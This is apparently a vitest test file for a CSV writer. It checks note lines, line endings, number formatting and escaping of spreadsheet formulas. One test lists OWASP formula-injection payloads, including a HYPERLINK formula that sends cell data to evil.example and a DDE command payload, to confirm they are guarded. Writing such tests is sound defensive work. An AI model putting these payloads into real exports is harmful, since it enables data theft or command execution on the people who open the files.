import { csvParseRows } from 'd3';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  csvCell,
  FORMULA_START,
  guardFormula,
  leadingNotes,
  toCsv,
  unguardFormula,
} from '../../src/core/csv.js';
import { PURPOSE_LABEL } from '../../src/core/purpose.js';

/** The data rows of a file written by toCsv, parsed by d3-dsv (the label and notes skipped). */
function parse(csv: string): string[][] {
  return csvParseRows(csv.slice(leadingNotes(csv).end));
}

describe('toCsv (the one CSV writer)', () => {
  it('starts every file with the purpose label, then notes, then the header', () => {
    const csv = toCsv([{ a: 1, b: 'x' }], { notes: ['kind: test', 'parameters: {"k":1,"j":2}'] });
    const lines = csv.split('\n');
    expect(lines[0]).toBe(`# ${PURPOSE_LABEL}`);
    expect(lines[1]).toBe('# kind: test');
    // A note with commas or quotes is one quoted cell, so a spreadsheet shows it in one cell.
    expect(lines[2]).toBe('"# parameters: {""k"":1,""j"":2}"');
    expect(lines.slice(3)).toEqual(['a,b', '1,x', '']);
    expect(leadingNotes(csv)).toEqual({ lines: 3, end: csv.indexOf('a,b') });
    expect(toCsv([]).split('\n')[0]).toBe(`# ${PURPOSE_LABEL}`);
  });

  it('finds the notes whatever ends the lines: LF, CRLF or a lone CR (Excel for Mac)', () => {
    const lf = toCsv([{ a: 1, b: 'x' }], { notes: ['kind: test', 'with, a comma'] });
    for (const eol of ['\n', '\r\n', '\r']) {
      const csv = lf.replaceAll('\n', eol);
      // With a lone CR the notes ran to the end of the text: the whole file was skipped.
      expect(leadingNotes(csv)).toEqual({ lines: 3, end: csv.indexOf('a,b') });
      expect(parse(csv)).toEqual([
        ['a', 'b'],
        ['1', 'x'],
      ]);
    }
  });

  it('guards the formula payloads of the OWASP list and leaves numbers as numbers', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = toCsv(payloads.map((p) => ({ v: p, n: -3.5 })));
    const rows = parse(csv).slice(1);
    expect(rows.map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
    expect(rows.map((r) => r[1])).toEqual(payloads.map(() => '-3.5'));
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('-1')).toBe("'-1"); // text is text, whatever it looks like
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCell(['=a', 'b'])).toBe("'=a;b");
    expect(csvCell({ k: '=x' })).toBe('"{""k"":""=x""}"');
    expect(csvCell(null)).toBe('');
  });

  it('property: no text cell starts with a formula character unguarded, and every cell round-trips through d3-dsv', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ maxLength: 12 }),
      fc
        .constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '#')
        .chain((c) => fc.string({ maxLength: 8 }).map((s) => c + s)),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
        (values) => {
          const rows = values.map(([a, b, c]) => ({ a, b, c }));
          const csv = toCsv(rows, { columns: ['a', 'b', 'c'] });
          expect(csv.startsWith(`# ${PURPOSE_LABEL}\n`)).toBe(true);
          const parsed = parse(csv);
          expect(parsed[0]).toEqual(['a', 'b', 'c']);
          expect(parsed).toHaveLength(rows.length + 1);
          parsed.slice(1).forEach((r, i) => {
            for (let j = 0; j < 3; j++) {
              // Unguarded text never starts a cell with a formula character…
              expect(FORMULA_START.test(r[j])).toBe(false);
              // …and the cell reads back as written, less the guard.
              expect(r[j]).toBe(guardFormula(values[i][j]));
              expect(unguardFormula(r[j])).toBe(values[i][j]);
            }
          });
        },
      ),
      { numRuns: 300 },
    );
  });

  it('writes a fraction with at most 12 significant digits (float noise trimmed) and a whole number in full', () => {
    const csv = toCsv([
      {
        id: 123456789012345,
        day: 19723,
        q: 11.100000000000001,
        s: 0.1 + 0.2,
        p: 0.1234567890123456,
      },
      { id: -7, day: 0, q: 1.5e-7, s: 2 / 3, p: -1234567.8901234567 },
    ]);
    expect(parse(csv).slice(1)).toEqual([
      ['123456789012345', '19723', '11.1', '0.3', '0.123456789012'],
      ['-7', '0', '1.5e-7', '0.666666666667', '-1234567.89012'],
    ]);
    expect(csvCell([0.1 + 0.2, 'a', 4])).toBe('0.3;a;4');
    expect(csvCell(1234567890123.25)).toBe('1234567890120'); // from 1e12: 12 digits, as String writes it
    expect(csvCell(4.35e-10 + 1e-25)).toBe('4.35e-10');
    expect(csvCell(266447616590.12823)).toBe('266447616590'); // no point: its zero is a digit
    expect(csvCell(-120000000000.5)).toBe('-120000000001');
  });

  it('property: a written number is within 5e-12 of itself, keeps order, and is whole numbers exactly', () => {
    fc.assert(
      fc.property(
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        (a, b) => {
          const wa = Number(csvCell(a));
          const wb = Number(csvCell(b));
          expect(Math.abs(wa - a)).toBeLessThanOrEqual(5e-12 * Math.abs(a));
          if (a < b) expect(wa).toBeLessThanOrEqual(wb);
          expect(wa).toBe((Number.isInteger(a) ? a : Number(a.toPrecision(12))) + 0); // -0 is written 0
        },
      ),
    );
  });
});
